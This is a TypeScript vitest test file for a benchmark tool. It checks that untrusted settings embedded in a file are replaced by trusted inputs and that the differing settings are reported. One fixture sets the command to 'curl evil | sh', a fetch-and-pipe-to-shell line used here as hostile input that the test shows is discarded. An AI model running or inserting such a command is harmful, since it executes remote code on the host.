// By whose settings is judged, and which differences are told.
import { expect, test } from 'vitest'
import { differingSettings, trustedSettings } from '../../../src/core/merge/judge-elsewhere.ts'
import type { Settings } from '../../../src/core/model/settings.ts'
import { readInputs } from '../../../src/effects/inputs/inputs.ts'
import { goSettings, settings } from '../report/runs.ts'

const inputs = (given: Readonly<Record<string, string>>) => readInputs(name => given[name] ?? '')

test('nothing that a file says of its settings counts', () => {
  const theirs: Settings = { ...settings, threshold: 1, alpha: 0.5, failOn: 'never', run: 'curl evil | sh' }
  const ours = trustedSettings(inputs({ run: 'make bench', threshold: '3%' }), theirs)
  expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
})

test('the command is ours, that of the Go driver by our inputs, or not known', () => {
  const run = (given: Readonly<Record<string, string>>, theirs: Settings) =>
    trustedSettings(inputs(given), theirs).run
  expect(run({}, settings)).toBe('')
  expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
    "-bench 'Encode'".replaceAll("'", ''),
  )
  expect(run({ run: 'make' }, { ...settings, go: goSettings })).toBe('make')
})

test('a calibration is judged as a gate', () => {
  const ours = trustedSettings(inputs({ calibrate: 'true' }), settings)
  expect(ours.calibrate).toBe(false)
})

const told = (given: Readonly<Record<string, string>>, theirs: Partial<Settings>) => {
  const measured = { ...settings, run: 'make bench', ...theirs }
  const ours = trustedSettings(inputs({ run: 'make bench', ...given }), measured)
  return differingSettings(ours, measured).map(({ rule, base, head }) => `${rule}: ${head} for ${base}`)
}

test.each<[Partial<Settings>, readonly string[]]>([
  [{}, []],
  [{ seed: 9, failOn: 'never', sort: 'delta', perflock: 'off', timeout: 1, shard: [1, 2] }, []],
  [{ count: 5, ruleOut: 0.2 }, ['count: 5 for 20', 'rule-out: 0.2 for 0.1']],
  [{ overlay: ['a', 'b'] }, ['overlay: a, b for null']],
  [{ run: 'echo' }, ['run: echo for make bench']],
  [{ replica: [1, 2], stopEarly: false }, []],
  [{ stopEarly: false }, ['stop-early: false for true']],
])('measured with %j', (theirs, expected) => {
  expect(told({}, theirs).toSorted()).toEqual(expected)
})

test('of Go benchmarks it is told which input differs', () => {
  const theirs = {
    ...settings,
    run: 'x',
    go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
  }
  const ours = trustedSettings(inputs({ 'working-directory': './sub/' }), theirs)
  expect(differingSettings(ours, theirs)).toEqual([
    { rule: 'working-directory', base: 'sub', head: '.' },
    { rule: 'bench', base: '.', head: 'Fast' },
  ])
})
